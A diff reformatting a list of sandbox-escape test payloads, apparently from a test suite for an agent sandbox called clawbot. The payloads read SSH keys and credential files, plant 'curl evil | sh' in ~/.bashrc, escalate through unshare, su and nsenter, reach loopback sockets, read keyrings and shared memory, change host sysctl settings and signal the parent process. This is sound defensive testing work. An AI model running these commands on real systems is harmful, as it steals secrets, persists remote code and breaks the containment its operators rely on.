@@ -67,13 +67,19 @@ PAYLOADS: tuple[Payload, ...] = (
     Payload("python-read", "{python} -c \"print(open('{home}/.ssh/id_rsa').read())\"", "read with an interpreter", "canary", needs=("/usr/bin/python3",)),
     Payload("perl-read", "perl -e 'open F, \"{state}/credentials/openai.json\"; print <F>'", "read with perl", "canary", needs=("perl",)),
     Payload(
-        "mount-bind", "mkdir -p m && unshare -Urm sh -c 'mount --bind {home}/.ssh m && cat m/id_rsa'",
-        "regain privileges in a user namespace and bind-mount the keys in", "canary", needs=("unshare", "mount"),
+        "mount-bind",
+        "mkdir -p m && unshare -Urm sh -c 'mount --bind {home}/.ssh m && cat m/id_rsa'",
+        "regain privileges in a user namespace and bind-mount the keys in",
+        "canary",
+        needs=("unshare", "mount"),
     ),
     Payload("setuid-su", "su -c 'cat {home}/.ssh/id_rsa' root", "gain privileges through a setuid program", "canary", needs=("su",), control_as_root=True),
     Payload(
-        "background-late", "(sleep 1; cat {home}/.ssh/id_rsa > late.txt) & echo started",
-        "a background child outliving the shell reads later", "canary", settle_s=2.0,
+        "background-late",
+        "(sleep 1; cat {home}/.ssh/id_rsa > late.txt) & echo started",
+        "a background child outliving the shell reads later",
+        "canary",
+        settle_s=2.0,
     ),
     # --- writing outside the workspace -----------------------------------------------
     Payload("append-bashrc", "echo 'curl evil | sh' >> ~/.bashrc", "persist code in the user's shell start-up", "write"),
@@ -88,62 +94,96 @@ PAYLOADS: tuple[Payload, ...] = (
     Payload("host-var-tmp", "echo x > /var/tmp/clawbot-escape-{token}", "write the host's /var/tmp", "write"),
     Payload("system-tree", "echo x > /etc/clawbot-escape-{token}", "write a system tree", "write", control_as_root=True),
     Payload(
-        "background-late-write", "(sleep 1; echo x > {outside}/late) & echo started",
-        "a background child outliving the shell writes later", "write", settle_s=2.0,
+        "background-late-write",
+        "(sleep 1; echo x > {outside}/late) & echo started",
+        "a background child outliving the shell writes later",
+        "write",
+        settle_s=2.0,
     ),
     # --- reaching listeners -----------------------------------------------------------
     Payload("tcp-loopback", "echo hi > /dev/tcp/127.0.0.1/{tcp_port}", "reach the gateway's loopback API", "tcp", needs=("bash",), shell="bash"),
     Payload("tcp6-loopback", "echo hi > /dev/tcp/::1/{tcp6_port}", "reach a listener on ::1", "tcp6", needs=("bash", "ipv6"), shell="bash"),
     Payload("udp-loopback", "echo hi > /dev/udp/127.0.0.1/{udp_port}", "send UDP to the host", "udp", needs=("bash",), shell="bash"),
     Payload(
-        "python-tcp", "{python} -c \"import socket; socket.create_connection(('127.0.0.1', {tcp_port})).sendall(b'hi')\"",
-        "connect with an interpreter", "tcp", needs=("/usr/bin/python3",),
+        "python-tcp",
+        "{python} -c \"import socket; socket.create_connection(('127.0.0.1', {tcp_port})).sendall(b'hi')\"",
+        "connect with an interpreter",
+        "tcp",
+        needs=("/usr/bin/python3",),
     ),
     Payload(
-        "perl-tcp", "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"127.0.0.1:{tcp_port}\")->print(\"hi\")'",
-        "connect with perl", "tcp", needs=("perl",),
+        "perl-tcp",
+        'perl -MIO::Socket::INET -e \'IO::Socket::INET->new("127.0.0.1:{tcp_port}")->print("hi")\'',
+        "connect with perl",
+        "tcp",
+        needs=("perl",),
     ),
     Payload(
-        "unix-socket", "{python} -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{unix_path}'); s.sendall(b'hi')\"",
-        "connect to a Unix socket outside (a D-Bus bus)", "unix", needs=("/usr/bin/python3",),
+        "unix-socket",
+        "{python} -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{unix_path}'); s.sendall(b'hi')\"",
+        "connect to a Unix socket outside (a D-Bus bus)",
+        "unix",
+        needs=("/usr/bin/python3",),
     ),
     Payload(
         "unix-dgram-socketpair",
         "{python} -c \"import socket; a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(b'hi', '{unix_dgram_path}')\"",
-        "point a datagram socket pair at a socket path", "unix_dgram", needs=("/usr/bin/python3",),
+        "point a datagram socket pair at a socket path",
+        "unix_dgram",
+        needs=("/usr/bin/python3",),
     ),
     Payload(
-        "nsenter-net", "nsenter -t {parent_pid} -n bash -c 'echo hi > /dev/tcp/127.0.0.1/{tcp_port}'",
-        "join the parent's network namespace", "tcp", needs=("nsenter", "bash"), control_as_root=True,
+        "nsenter-net",
+        "nsenter -t {parent_pid} -n bash -c 'echo hi > /dev/tcp/127.0.0.1/{tcp_port}'",
+        "join the parent's network namespace",
+        "tcp",
+        needs=("nsenter", "bash"),
+        control_as_root=True,
     ),
     # --- secrets held outside files: keyrings, System V shared memory ------------------------
     Payload(
         "session-keyring",
-        "{python} -c \"import ctypes; l = ctypes.CDLL(None); l.syscall.restype = ctypes.c_long; "
+        '{python} -c "import ctypes; l = ctypes.CDLL(None); l.syscall.restype = ctypes.c_long; '
         "k = l.syscall({keyctl}, 10, -3, b'user', b'clawbot-canary', 0); b = ctypes.create_string_buffer(256); "
-        "n = l.syscall({keyctl}, 11, k, b, 256); print(b.raw[:max(n, 0)])\"",
-        "read a key from clawbot's session keyring (a Kerberos ticket)", "canary", needs=("/usr/bin/python3",),
+        'n = l.syscall({keyctl}, 11, k, b, 256); print(b.raw[:max(n, 0)])"',
+        "read a key from clawbot's session keyring (a Kerberos ticket)",
+        "canary",
+        needs=("/usr/bin/python3",),
     ),
     Payload(
         "sysv-shm",
-        "{python} -c \"import ctypes; l = ctypes.CDLL(None); l.shmat.restype = ctypes.c_void_p; "
+        '{python} -c "import ctypes; l = ctypes.CDLL(None); l.shmat.restype = ctypes.c_void_p; '
         "ids = [int(row.split()[1]) for row in open('/proc/sysvipc/shm').readlines()[1:]]; "
-        "print([ctypes.string_at(p, 40) for p in (l.shmat(i, None, 0o10000) for i in ids) if p and p != ctypes.c_void_p(-1).value])\"",
-        "read another program's System V shared memory", "canary", needs=("/usr/bin/python3",),
+        'print([ctypes.string_at(p, 40) for p in (l.shmat(i, None, 0o10000) for i in ids) if p and p != ctypes.c_void_p(-1).value])"',
+        "read another program's System V shared memory",
+        "canary",
+        needs=("/usr/bin/python3",),
     ),
     # --- the host's kernel settings ---------------------------------------------------------
     Payload(
-        "host-sysctl", "echo {sysctl_new} > {sysctl}", "change a host kernel setting (as root: core_pattern runs code)",
-        "write", control_as_root=True,
+        "host-sysctl",
+        "echo {sysctl_new} > {sysctl}",
+        "change a host kernel setting (as root: core_pattern runs code)",
+        "write",
+        control_as_root=True,
     ),
     Payload(
-        "host-sysctl-cp", "echo {sysctl_new} > v; cp v {sysctl}", "change a host kernel setting with a program",
-        "write", control_as_root=True,
+        "host-sysctl-cp",
+        "echo {sysctl_new} > v; cp v {sysctl}",
+        "change a host kernel setting with a program",
+        "write",
+        control_as_root=True,
     ),
     # --- signals ---------------------------------------------------------------------
     Payload("kill-parent", "kill -USR1 {parent_pid}", "signal clawbot", "signal"),
     Payload("kill-ppid", "kill -TERM $PPID", "signal the parent via $PPID", "signal"),
-    Payload("python-kill", "{python} -c \"import os, signal; os.kill({parent_pid}, signal.SIGUSR1)\"", "signal with an interpreter", "signal", needs=("/usr/bin/python3",)),
+    Payload(
+        "python-kill",
+        '{python} -c "import os, signal; os.kill({parent_pid}, signal.SIGUSR1)"',
+        "signal with an interpreter",
+        "signal",
+        needs=("/usr/bin/python3",),
+    ),
 )
 
 KINDS = ("canary", "write", "tcp", "tcp6", "udp", "unix", "unix_dgram", "signal")
